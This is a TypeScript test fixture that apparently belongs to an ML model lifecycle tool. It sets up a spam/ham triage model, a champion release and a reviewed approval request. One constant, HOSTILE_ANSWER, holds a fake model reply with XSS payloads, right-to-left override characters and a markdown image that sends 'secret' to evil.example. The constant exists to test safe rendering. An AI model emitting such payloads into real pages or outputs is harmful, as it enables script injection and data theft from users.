import type { LifecyclePlan } from '../../domain/lifecycle-file/plan.js';
import type { ModelPort } from '../../domain/ports/model.js';
import type { ActivityWorld } from './activity-world.js';
import { PROJECT } from './seeded-project.js';
import { toyPlan } from './toy-plan.js';

/** What a model could say to whoever shows its answers as anything but text. */
const HOSTILE_ANSWER =
  '<img src=x onerror="document.title=\'owned\'"><script>document.title="owned"</script>![x](http://evil.example/?q=secret)\u202egnitpurroc\u202c';

/** Tells made-up spam from ham, but for the mails whose number it gets wrong. */
const modelThat = (errs: (number: number) => boolean, wrong?: string): ModelPort => ({
  async chat({ model, messages }) {
    const text = messages.at(-1)?.content ?? '';
    const right = /winner|prize|cash|bonus|offer/.test(text) ? 'spam' : 'ham';
    const number = Number(/Subject (\d+):/.exec(text)?.[1] ?? 0);
    const content = errs(number) ? (wrong ?? (right === 'spam' ? 'ham' : 'spam')) : right;
    return { model, content, promptTokens: 1, completionTokens: 1 };
  },
  list: async () => ['served'],
});

const plan = (over: Partial<LifecyclePlan> = {}): LifecyclePlan => {
  const toy = toyPlan();
  return toyPlan({
    name: 'email-triage',
    purpose: 'Answer “spam” or “ham” for an incoming message.',
    evaluate: {
      ...toy.evaluate,
      tasks: toy.evaluate.tasks.map((task) => ({ ...task, metrics: ['f1-macro', 'accuracy'] })),
      gates: [
        { task: 'triage', metric: 'f1-macro', kind: 'at-least', limit: 0.85, confidence: 0.95 },
        {
          task: 'triage',
          metric: 'f1-macro',
          kind: 'no-worse-than-champion',
          margin: 0.05,
          confidence: 0.95,
          firstRelease: 'allow',
        },
      ],
    },
    approve: { ...toy.approve, expiresAfterMilliseconds: 6 * 86_400_000 },
    deploy: { ...toy.deploy, alias: 'email-triage' },
    ...over,
  });
};

/** A version that serves under the alias, after two people approved it. */
async function serveChampion(world: ActivityWorld): Promise<void> {
  const { dependencies } = world;
  const { revision } = await dependencies.registry.route(PROJECT, 'email-triage');
  if (revision > 0) return;
  const local = modelThat((number) => number % 11 === 0);
  world.dependencies.models['local'] = local;
  const { release } = await world.approvedRun(plan());
  await dependencies.registry.move({
    project: PROJECT,
    alias: 'email-triage',
    expectedRevision: 0,
    routes: [{ versionId: release.versionId, weight: 100 }],
    champion: release.versionId,
    runId: release.runId,
    requestId: release.requestId,
    reason: 'test',
    key: 'test',
  });
}

/**
 * An open request about a candidate that is better than the champion on the whole, worse on some mails, and answers
 * one with what a page must not take for markup.
 */
export async function openReviewedRequest(world: ActivityWorld): Promise<{ requestId: string; runId: string }> {
  await serveChampion(world);
  const { model: toyModel } = { model: modelThat((number) => number % 23 === 5, HOSTILE_ANSWER) };
  const { runId, curated } = await world.curatedRun(plan({ train: { hyperparameters: { epochs: 30 }, seed: 8 } }));
  const model = await world.registered(runId);
  world.dependencies.models['local'] = toyModel;
  const asked = { runId, task: 'triage', curated, versionId: model.versionId };
  const predictions = [await world.perform('predictTask', asked)];
  const evaluated = await world.perform('judgeEvaluation', { runId, curated, model, predictions });
  const { requestId } = await world.perform('openApproval', { runId, curated, model, evaluated });
  return { requestId, runId };
}
